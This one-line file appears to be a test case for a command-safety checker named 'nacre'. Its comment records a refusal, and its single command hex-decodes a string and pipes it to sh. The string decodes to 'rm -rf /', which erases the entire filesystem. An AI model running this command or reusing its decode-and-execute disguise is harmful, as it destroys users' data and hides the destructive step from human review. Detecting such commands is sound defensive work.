# nacre: refused file.destroy code.eval-decoded
echo 726d202d7266202f | xxd -r -p | sh
